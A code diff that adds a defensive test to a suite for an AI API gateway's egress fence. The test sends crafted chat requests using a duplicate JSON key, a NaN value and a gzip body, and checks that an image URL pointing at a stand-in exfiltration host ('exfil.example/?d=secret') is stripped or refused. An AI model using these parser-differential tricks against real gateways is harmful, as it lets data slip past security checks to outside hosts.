@@ -361,6 +361,34 @@ describe('past the egress fence through the provider', () => {
     expect(world.standIn.received).toHaveLength(1);
   });
 
+  test('attack held: a duplicate key, a body another parser reads (NaN), a compressed body', async () => {
+    world = await gatewayWorld('openai', {}, { fencedHosts: hosts });
+    const part = (urls: string) =>
+      `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{${urls}}}]}]}`;
+    // JSON.parse keeps the last of two keys; a provider that keeps the first gets only what was checked.
+    const twice = part('"url":"https://exfil.example/?d=secret","url":"data:image/png;base64,AA"');
+    expect((await raw(world, '/openai/chat/completions', bearer(world), twice)).status).toBe(200);
+    expect(world.standIn.received[0]?.body).not.toContain('exfil');
+    // Python's json reads NaN; JSON.parse does not: such a body cannot be checked, so it is not sent.
+    const nan = part('"url":"https://exfil.example/"').replace(
+      '"model":"m"',
+      '"model":"m","t":NaN'
+    );
+    const unread = await raw(world, '/openai/chat/completions', bearer(world), nan);
+    expect(unread.status).toBe(403);
+    expect(JSON.parse(unread.body)).toMatchObject({
+      error: { message: expect.stringContaining('is not JSON the gateway can read') }
+    });
+    const gzipped = await raw(
+      world,
+      '/openai/chat/completions',
+      { ...bearer(world), 'content-encoding': 'gzip' },
+      '\x1f\x8b'
+    );
+    expect(gzipped.status).toBe(415);
+    expect(world.standIn.received).toHaveLength(1);
+  });
+
   test('no fence asked for (allowed-hosts: *): the same call goes', async () => {
     world = await gatewayWorld('openai');
     const answer = await raw(
